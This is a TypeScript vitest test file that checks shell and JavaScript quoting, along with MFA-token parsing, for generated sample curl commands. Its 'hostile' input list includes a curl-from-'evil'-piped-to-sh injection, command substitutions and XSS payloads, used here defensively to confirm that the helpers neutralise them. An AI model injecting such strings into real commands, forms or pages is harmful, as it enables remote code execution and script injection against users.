import { execFileSync } from 'node:child_process'
import { afterEach, describe, expect, it } from 'vitest'
import { exampleRequest } from '../chooser/request.ts'
import { quoteForJavaScript, quoteForShell } from './quote.ts'
import { findMfaToken, isValid, toSampleText, values } from './values.ts'

const hostile = [
  `'; curl evil|sh #`,
  '$(touch evil)`touch evil`',
  '<img src=x onerror=alert(1)>',
  '</script><script>',
  '\\',
  '"; exit',
]

afterEach(() => {
  for (const name of Object.keys(values) as (keyof typeof values)[]) values[name] = ''
})

describe("the reader's values", () => {
  it.each(hostile)('are one argument in a shell: %s', (text) => {
    const printed = execFileSync('bash', ['-c', `printf '%s' -d username=${quoteForShell(text)}`])
    expect(printed.toString()).toBe(`-dusername=${text}`)
  })

  it.each(hostile)('are one string in JavaScript: %s', (text) => {
    const program = `process.stdout.write('${quoteForJavaScript(text)}')`
    expect(execFileSync(process.execPath, ['-e', program]).toString()).toBe(text)
  })

  it('stay out of the samples while they are empty or invalid', () => {
    values.clientId = `my-client'; curl evil|sh #`
    expect(toSampleText('clientId', 'sh')).toBeUndefined()
    expect(toSampleText('username', 'sh')).toBeUndefined()
    values.username = `o'neil@example.com`
    expect(toSampleText('username', 'sh')).toBe(`'o'\\''neil@example.com'`)
    expect(toSampleText('username', 'js')).toBe(`o\\'neil@example.com`)
  })

  it('include no password, client secret or refresh token', () => {
    expect(Object.keys(values)).toEqual(['username', 'clientId', 'customer', 'mfaToken'])
  })
})

describe('a pasted mfa_token', () => {
  it('is found in a response', () => {
    const token = '6e16f915-29f5-9b2b-b752-451a73xec610'
    expect(findMfaToken(`HTTP/1.1 403\n\n{"error":"mfa_required", "mfa_token" : "${token}"}`)).toBe(token)
  })

  it('may be pasted alone, or as Python prints it', () => {
    const token = '6e16f915-29f5-9b2b-b752-451a73ec6102'
    expect(findMfaToken(` ${token}\n`)).toBe(token)
    expect(findMfaToken(`{'mfa_token': '${token}'}`)).toBe(token)
    expect(findMfaToken('multi-factor-authentication')).toBeUndefined()
  })

  it.each(hostile)('must look like one: %s', (text) => {
    expect(findMfaToken(JSON.stringify({ error: 'mfa_required', mfa_token: text }))).toBeUndefined()
    expect(isValid('mfaToken', text)).toBe(false)
  })
})

describe('a curl command', () => {
  it('takes secrets from environment variables', () => {
    expect(exampleRequest('password', 'developer')).toContain('--data-urlencode "password=$PARTICLE_PASSWORD"')
    const product = exampleRequest('client_credentials', 'product')
    expect(product).toContain('-u my-product-1234:"$PARTICLE_CLIENT_SECRET"')
  })

  it.each(hostile)('quotes what a field contains: %s', (text) => {
    const command = exampleRequest('password', 'developer', { username: text })
    const printed = execFileSync('bash', ['-c', `curl() { printf '%s\\n' "$@"; }\n${command}`])
    expect(printed.toString().split('\n')).toContain(`username=${text}`)
  })
})
